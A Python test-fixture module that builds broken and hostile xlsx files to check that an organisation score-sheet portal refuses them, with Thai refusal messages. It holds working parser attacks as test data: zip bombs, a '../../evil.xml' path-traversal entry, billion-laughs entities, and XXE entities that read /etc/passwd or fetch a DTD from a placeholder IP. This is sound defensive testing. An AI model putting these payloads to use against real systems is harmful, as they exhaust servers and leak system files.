"""Broken and hostile spreadsheets, each built by hand from a sound one.

Every builder takes the bytes of a sound workbook, the sheet of one organisation as the portal writes it with a few
scores, and returns other bytes.
"""

import io
import re
import struct
import zipfile
from datetime import datetime, time

from openpyxl import Workbook, load_workbook

from assessments.score_sheets import refusals
from tests.assessments.sheet_files import (
    SHEET,
    STRINGS,
    TYPES,
    WORKBOOK,
    data_of,
    edited,
    packed,
    parts_of,
    prefixed,
    replaced,
    with_cell,
    with_directory_field,
    with_doubled_entry,
    with_extra_field,
    with_part,
    with_raw_cell,
    with_rows,
    with_score,
    without_part,
)

MEGABYTE = 1024 * 1024
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
OTHER_ORGANIZATION = "แฟ้มนี้เป็นแบบคะแนนของหน่วยงานรหัส"
OTHER_YEAR = "แฟ้มนี้เป็นแบบคะแนนของปี"
CHANGED_IDENTITY = "รหัสหน่วยงานหรือปีที่พิมพ์ไว้"
UNKNOWN_VERSION = "แฟ้มนี้เป็นแบบรุ่นที่ระบบไม่รู้จัก"
BULK_SHEET = "แฟ้มนี้เป็นแบบรวมหลายหน่วยงาน"

HOSTILE = {}  # name → (builder, the sentence, or how it begins)


def hostile(sentence):
    """Registers a builder of a file that must be refused with this sentence."""

    def register(builder):
        HOSTILE[builder.__name__.removeprefix("a_").replace("_", " ")] = (builder, sentence)
        return builder

    return register


# -- No workbook at all ----------------------------------------------------------------------------


@hostile(refusals.EMPTY)
def an_empty_file(sound):
    return b""


@hostile(refusals.NOT_XLSX)
def random_bytes(sound):
    return bytes(range(7, 256)) * 40


@hostile(refusals.NOT_XLSX)
def a_csv_file_renamed(sound):
    return "รหัส,รายการ,คะแนน\ni1,ข้อความ,98.26\n".encode()


@hostile(refusals.NOT_XLSX)
def a_web_page_renamed(sound):
    return b"<!doctype html><html><table><tr><td>i1</td><td>98.26</td></tr></table></html>"


@hostile(refusals.PDF)
def a_pdf_renamed(sound):
    return b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF"


@hostile(refusals.PDF)
def a_pdf_with_a_workbook_behind_it(sound):
    return b"%PDF-1.7\n" + sound


@hostile(refusals.NOT_XLSX)
def a_program_with_a_workbook_behind_it(sound):
    return b"MZ" + bytes(500) + sound


@hostile(refusals.OLD_EXCEL)
def an_old_excel_file(sound):
    return OLE + bytes(504) + "Workbook".encode("utf-16-le") + bytes(2000)


@hostile(refusals.ENCRYPTED)
def a_workbook_with_a_password(sound):
    return OLE + bytes(504) + "EncryptedPackage".encode("utf-16-le") + bytes(2000)


@hostile(refusals.OPEN_DOCUMENT)
def an_open_document(sound):
    return packed({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": b"<a/>"})


@hostile(refusals.OTHER_OFFICE)
def a_word_file(sound):
    return packed({TYPES: b"<Types/>", "word/document.xml": b"<document/>"})


@hostile(refusals.BINARY)
def a_binary_workbook(sound):
    return with_part(sound, "xl/workbook.bin", b"\x83\x01\x00")


@hostile(refusals.NOT_XLSX)
def a_zip_file_of_texts(sound):
    return packed({"readme.txt": b"hello", "scores.csv": b"i1,98.26"})


@hostile(refusals.NOT_XLSX)
def a_zip_file_without_entries(sound):
    return packed({})


# -- Broken zip files ------------------------------------------------------------------------------


@hostile(refusals.BROKEN)
def a_file_cut_in_half(sound):
    return sound[: len(sound) // 2]


@hostile(refusals.BROKEN)
def a_file_cut_before_its_directory(sound):
    return sound[:-22]


@hostile(refusals.BROKEN)
def the_first_four_bytes_only(sound):
    return sound[:4]


@hostile(refusals.BROKEN)
def a_part_that_does_not_fit_its_checksum(sound):
    stored = bytearray(packed(parts_of(sound), zipfile.ZIP_STORED))
    place = stored.index(b"<sheetData>")
    stored[place + 1] ^= 0x20
    return bytes(stored)


@hostile(refusals.BROKEN)
def packed_data_that_is_noise(sound):
    place = data_of(sound, SHEET)
    return sound[:place] + b"\xff" * 60 + sound[place + 60 :]


@hostile(refusals.BROKEN)
def a_directory_that_points_nowhere(sound):
    end = sound.rindex(b"PK\x05\x06")
    return sound[: end + 16] + struct.pack("<L", 0x7FFFFFF0) + sound[end + 20 :]


@hostile(refusals.ENCRYPTED)
def an_entry_with_a_password(sound):
    return with_directory_field(sound, SHEET, 8, struct.pack("<H", 1))


@hostile(refusals.UNSAFE)
def entries_packed_with_bzip2(sound):
    return packed(parts_of(sound), zipfile.ZIP_BZIP2)


@hostile(refusals.UNSAFE)
def entries_packed_with_lzma(sound):
    return packed(parts_of(sound), zipfile.ZIP_LZMA)


@hostile(refusals.UNSAFE)
def an_entry_packed_in_an_unknown_way(sound):
    return with_directory_field(sound, SHEET, 10, struct.pack("<H", 93))


@hostile(refusals.UNSAFE)
def two_entries_of_one_name(sound):
    other = parts_of(sound)[SHEET].replace(b"90", b"10")
    return with_doubled_entry(sound, SHEET, other)


@hostile(refusals.UNSAFE)
def two_entries_that_differ_in_case(sound):
    return with_part(sound, SHEET.upper(), b"<worksheet/>")


@hostile(refusals.UNSAFE)
def an_entry_that_climbs_out(sound):
    return with_part(sound, "../../evil.xml", b"<a/>")


@hostile(refusals.TOO_LARGE)
def more_than_two_hundred_entries(sound):
    return packed(parts_of(sound) | {f"xl/media/{number}.xml": b"<a/>" for number in range(201)})


# -- Too much of it --------------------------------------------------------------------------------


@hostile(refusals.TOO_LARGE)
def a_zip_bomb(sound):
    return with_part(sound, SHEET, b"<worksheet>" + b" " * (70 * MEGABYTE))


@hostile(refusals.TOO_LARGE)
def a_zip_bomb_of_many_parts(sound):
    bombs = {f"xl/worksheets/sheet{number}.xml": b" " * (10 * MEGABYTE) for number in range(3, 10)}
    return packed(parts_of(sound) | bombs)


@hostile(refusals.TOO_LARGE)
def a_bomb_below_the_limit(sound):
    return with_part(sound, SHEET, b"<worksheet>" + b" " * (8 * MEGABYTE))


@hostile(refusals.BROKEN)
def a_zip_bomb_that_says_it_is_small(sound):
    bomb = a_zip_bomb(sound)
    return with_directory_field(bomb, SHEET, 24, struct.pack("<L", 1000))


@hostile(refusals.TOO_LARGE)
def a_part_that_says_it_is_four_gigabytes(sound):
    return with_directory_field(sound, SHEET, 24, struct.pack("<L", 0xFFFFFFF0))


@hostile(refusals.TOO_LARGE)
def a_zip64_size_without_its_record(sound):
    return with_directory_field(sound, SHEET, 24, struct.pack("<L", 0xFFFFFFFF))


@hostile(refusals.TOO_LARGE)
def a_zip64_record_that_lies(sound):
    return with_extra_field(sound, struct.pack("<HHQ", 1, 8, 2**62))


@hostile(refusals.TOO_LONG)
def a_million_empty_rows(sound):
    return with_rows(sound, "".join(f'<row r="{number}"/>' for number in range(1000, 1_001_000)))


@hostile(refusals.TOO_LONG)
def rows_without_a_number(sound):
    return with_rows(sound, "<row/>" * 5_001)


@hostile(refusals.TOO_LONG)
def a_score_in_the_last_row(sound):
    return with_rows(sound, '<row r="1048576"><c r="D1048576"><v>50</v></c></row>')


@hostile(refusals.TOO_LONG)
def a_score_in_the_last_column(sound):
    return with_rows(sound, '<row r="4000"><c r="XFD4000"><v>50</v></c></row>')


@hostile(refusals.TOO_LARGE)
def millions_of_shared_strings(sound):
    strings = b"".join(b"<si><t>%d</t></si>" % number for number in range(750_100))
    return with_part(sound, STRINGS, b"<sst>" + strings + b"</sst>")


@hostile(refusals.TOO_MANY_SHEETS)
def twenty_one_sheets(sound):
    return edited(sound, lambda workbook, sheet: [workbook.create_sheet() for _ in range(20)])


@hostile("แฟ้มนี้ใหญ่เกิน")
def nine_megabytes(sound):
    return packed(parts_of(sound) | {"xl/media/picture.png": bytes(9 * MEGABYTE)}, zipfile.ZIP_STORED)


# -- What should not be in it ----------------------------------------------------------------------


@hostile(refusals.MACRO)
def a_macro(sound):
    return with_part(sound, "xl/vbaProject.bin", OLE)


@hostile(refusals.MACRO)
def a_macro_workbook_without_its_macro(sound):
    old = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    return replaced(sound, TYPES, old, "application/vnd.ms-excel.sheet.macroEnabled.main+xml")


@hostile(refusals.OUTSIDE)
def a_link_to_another_file(sound):
    return with_part(sound, "xl/externalLinks/externalLink1.xml", b"<externalLink/>")


@hostile(refusals.OUTSIDE)
def an_embedded_object(sound):
    return with_part(sound, "xl/embeddings/oleObject1.bin", OLE)


@hostile(refusals.OUTSIDE)
def a_connection_to_a_database(sound):
    return with_part(sound, "xl/connections.xml", b"<connections/>")


@hostile(refusals.OUTSIDE)
def a_control(sound):
    return with_part(sound, "xl/activeX/activeX1.xml", b"<ocx/>")


# -- Hostile XML -----------------------------------------------------------------------------------


@hostile(refusals.UNSAFE)
def a_document_type(sound):
    return prefixed(sound, SHEET, b"<!DOCTYPE worksheet>")


@hostile(refusals.UNSAFE)
def a_billion_laughs(sound):
    entities = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    return prefixed(sound, STRINGS, f'<!DOCTYPE sst [<!ENTITY a0 "ha">{entities}]>'.encode())


@hostile(refusals.UNSAFE)
def a_quadratic_entity(sound):
    return prefixed(sound, STRINGS, b'<!DOCTYPE sst [<!ENTITY a "' + b"x" * 100_000 + b'">]>')


@hostile(refusals.UNSAFE)
def an_entity_that_reads_a_file(sound):
    return prefixed(sound, WORKBOOK, b'<!DOCTYPE w [<!ENTITY a SYSTEM "file:///etc/passwd">]>')


@hostile(refusals.UNSAFE)
def an_entity_that_asks_the_network(sound):
    return prefixed(sound, TYPES, b'<!DOCTYPE t [<!ENTITY % a SYSTEM "http://192.0.2.1/a.dtd"> %a;]>')


@hostile(refusals.UNSAFE)
def a_document_type_in_another_encoding(sound):
    part = parts_of(sound)[SHEET].decode().replace('encoding="UTF-8"', "")
    return with_part(sound, SHEET, ("\ufeff<!DOCTYPE worksheet []>" + part).encode("utf-16-le"))


@hostile(refusals.UNSAFE)
def xml_a_hundred_thousand_deep(sound):
    return with_part(sound, STRINGS, b"<a>" * 100_000 + b"</a>" * 100_000)


@hostile(refusals.UNSAFE)
def a_hundred_thousand_attributes(sound):
    attributes = b"".join(b' a%d="1"' % number for number in range(100_000))
    return with_part(sound, STRINGS, b"<sst" + attributes + b"/>")


@hostile(refusals.BROKEN)
def xml_that_does_not_end(sound):
    return with_part(sound, SHEET, parts_of(sound)[SHEET][:-30])


@hostile(refusals.BROKEN)
def xml_in_an_unknown_encoding(sound):
    part = re.sub(rb"^<\?xml[^>]*\?>", b"", parts_of(sound)[SHEET])
    return with_part(sound, SHEET, b'<?xml version="1.0" encoding="klingon"?>' + part)


@hostile(refusals.BROKEN)
def text_that_is_no_utf8(sound):
    return with_part(sound, STRINGS, b"<sst><si><t>\xff\xfe\xfa</t></si></sst>")


# -- Workbooks with something missing or contradictory ---------------------------------------------


@hostile(refusals.NOT_XLSX)
def a_package_without_a_workbook(sound):
    return packed({name: part for name, part in parts_of(sound).items() if not name.startswith("xl/")})


@hostile(refusals.BROKEN)
def no_content_types(sound):
    return without_part(sound, TYPES)


@hostile(refusals.BROKEN)
def no_list_of_the_workbooks_parts(sound):
    return without_part(sound, "xl/_rels/workbook.xml.rels")


@hostile(refusals.BROKEN)
def content_types_of_something_else(sound):
    return with_part(
        sound, TYPES, b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
    )


@hostile(refusals.BROKEN)
def no_styles_where_some_are_named(sound):
    return without_part(sound, "xl/styles.xml")


@hostile(refusals.BROKEN)
def no_shared_strings_where_some_are_named(sound):
    return without_part(sound, STRINGS)


@hostile(refusals.BROKEN)
def a_string_that_is_not_there(sound):
    return with_raw_cell(sound, "i1", ' t="s"', "<v>99999</v>")


@hostile(refusals.BROKEN)
def a_style_that_is_not_there(sound):
    return with_raw_cell(sound, "i1", ' s="99999"', "<v>90</v>")


@hostile(refusals.BROKEN)
def a_number_that_is_none(sound):
    return with_raw_cell(sound, "i1", "", "<v>NaN</v>")


@hostile(refusals.BROKEN)
def a_number_of_ten_thousand_digits(sound):
    return with_raw_cell(sound, "i1", "", f"<v>{'9' * 10_000}</v>")


@hostile(refusals.BROKEN)
def rows_out_of_order(sound):
    return with_rows(sound, '<row r="2"><c r="D2"><v>50</v></c></row>')


@hostile(refusals.BROKEN)
def cells_out_of_order(sound):
    return with_rows(sound, '<row r="900"><c r="D900"><v>50</v></c><c r="C900"><v>50</v></c></row>')


@hostile(refusals.BROKEN)
def a_cell_of_another_row(sound):
    return with_rows(sound, '<row r="900"><c r="D901"><v>50</v></c></row>')


@hostile(refusals.BROKEN)
def a_row_below_zero(sound):
    return with_rows(sound, '<row r="-1"><c><v>50</v></c></row>')


@hostile(refusals.BROKEN)
def a_cell_without_a_place(sound):
    return with_rows(sound, '<row r="900"><c r="ช่อง"><v>50</v></c></row>')


@hostile(refusals.STRICT)
def a_strict_workbook(sound):
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    return replaced(sound, WORKBOOK, main, "http://purl.oclc.org/ooxml/spreadsheetml/main")


# -- Sheets that are not the one -------------------------------------------------------------------


@hostile(refusals.NO_SHEET)
def a_workbook_of_something_else(sound):
    workbook = Workbook()
    workbook.active.append(["i1", 98.26])
    content = io.BytesIO()
    workbook.save(content)
    return content.getvalue()


@hostile(refusals.NO_SHEET)
def a_workbook_whose_sheets_are_missing(sound):
    return without_part(without_part(sound, SHEET), "xl/worksheets/sheet2.xml")


@hostile(refusals.TWO_SHEETS)
def two_score_sheets(sound):
    return edited(sound, lambda workbook, sheet: workbook.copy_worksheet(sheet))


@hostile(refusals.NO_HEAD)
def a_sheet_without_its_head(sound):
    return edited(sound, lambda workbook, sheet: sheet.delete_rows(5))


@hostile(refusals.NO_HEAD)
def a_sheet_with_a_column_twice(sound):
    return with_cell(sound, "G5", "คะแนน")


@hostile(refusals.NO_HEAD)
def a_sheet_without_a_column(sound):
    return edited(sound, lambda workbook, sheet: sheet.delete_cols(6))


@hostile(refusals.NOTHING)
def a_sheet_without_scores(sound):
    def clear(workbook, sheet):
        for row in sheet.iter_rows(min_row=6, min_col=4):
            for cell in row:
                if not type(cell).__name__.startswith("Merged"):
                    cell.value = None

    return edited(sound, clear)


@hostile(CHANGED_IDENTITY)
def a_sheet_with_another_year_typed_over(sound):
    return with_cell(sound, "C4", "2567")


@hostile(CHANGED_IDENTITY)
def a_sheet_with_another_organisation_typed_over(sound):
    return with_cell(sound, "C3", "somebody-else")


@hostile(OTHER_ORGANIZATION)
def a_sheet_of_another_organisation(sound):
    return with_cell(with_cell(sound, "C3", "other"), "A1", "ita-scores 1 other 2568")


@hostile(OTHER_YEAR)
def a_sheet_of_another_year(sound):
    slug = load_workbook(io.BytesIO(sound)).worksheets[0]["C3"].value
    return with_cell(with_cell(sound, "C4", "2567"), "A1", f"ita-scores 1 {slug} 2567")


@hostile(UNKNOWN_VERSION)
def a_sheet_of_a_later_format(sound):
    mark = load_workbook(io.BytesIO(sound)).worksheets[0]["A1"].value
    return with_cell(sound, "A1", mark.replace("ita-scores 1", "ita-scores 9"))


@hostile(BULK_SHEET)
def a_sheet_of_many_organisations(sound):
    return edited(with_cell(sound, "A1", "ita-bulk 1 2568"), lambda workbook, sheet: sheet.delete_rows(3))


# -- Wrong cells -----------------------------------------------------------------------------------

WRONG_SCORES = {  # what stands in the cell of i1 → a word of what is said about it
    "letters": ("เก้าสิบ", "ไม่ใช่คะแนน"),
    "not a number": ("NaN", "ไม่ใช่คะแนน"),
    "infinity": ("inf", "ไม่ใช่คะแนน"),
    "an exponent": ("1e2", "ไม่ใช่คะแนน"),
    "an underscore": ("1_0", "ไม่ใช่คะแนน"),
    "two numbers": ("97.43 98.00", "ไม่ใช่คะแนน"),
    "two points": ("๙๐.๕.๑", "ไม่ใช่คะแนน"),
    "below zero": (-5, "ระหว่าง 0 ถึง 100"),
    "above a hundred": (100.01, "ระหว่าง 0 ถึง 100"),
    "far above": (1e300, "ระหว่าง 0 ถึง 100"),
    "a third decimal": (97.435, "ทศนิยมเกิน 2 ตำแหน่ง"),
    "a third decimal as text": ("97.435", "ทศนิยมเกิน 2 ตำแหน่ง"),
    "hardly a third decimal": (97.4300001, "ทศนิยมเกิน 2 ตำแหน่ง"),
    "yes or no": (True, "จริงหรือเท็จ"),
    "a date": (datetime(2025, 8, 15), "วันที่หรือเวลา"),
    "a time": (time(9, 30), "วันที่หรือเวลา"),
    "an error of Excel": ("#DIV/0!", "ข้อผิดพลาดของ Excel"),
    "a formula nobody calculated": ("=SUM(1,2)", "สูตรที่ยังไม่ได้คำนวณ"),
}


def with_every_kind_of_wrong_cell(sound):
    """One file with a wrong cell of every kind that has a place of its own, and one sound score."""
    content = with_score(sound, "i1", "เก้าสิบ")
    content = with_score(content, "i2", 97.435)
    content = with_score(content, "O1", 0.9743, number_format="0.00%")
    content = with_score(content, "e1", 50)  # EIT has a column for each part
    content = with_score(content, "ระดับ", "ดีที่สุดในโลก")
    content = with_score(content, "ประกาศเมื่อ", "15 ส.ค. 2025")
    return with_score(content, "ลำดับ", "ที่หนึ่ง")
